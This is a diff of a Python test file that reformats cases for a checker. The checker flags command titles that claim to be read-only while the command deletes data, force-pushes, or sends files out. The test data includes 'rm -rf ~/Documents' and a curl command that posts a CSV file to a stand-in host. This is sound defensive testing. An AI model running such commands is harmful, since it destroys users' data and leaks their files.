@@ -17,9 +17,17 @@ def said(title: str, language: Language, code: str) -> str:
     ("title", "code", "words"),
     [
         ("Count the words", "rm -rf ~/Documents", "the title speaks of looking alone, but it deletes "),
-        ("List files: a dry run", "rm -r build", "the title speaks of looking alone, but it deletes the folder “build”"),
+        (
+            "List files: a dry run",
+            "rm -r build",
+            "the title speaks of looking alone, but it deletes the folder “build”",
+        ),
         ("read-only tour", "git push --force origin main", "the title speaks of looking alone, but it throws away"),
-        ("Check", "curl -d @a.csv https://a.example", "the title speaks of looking alone, but it sends files to a.example"),
+        (
+            "Check",
+            "curl -d @a.csv https://a.example",
+            "the title speaks of looking alone, but it sends files to a.example",
+        ),
     ],
 )
 def test_a_title_that_denies_the_deed_is_said(title: str, code: str, words: str) -> None:
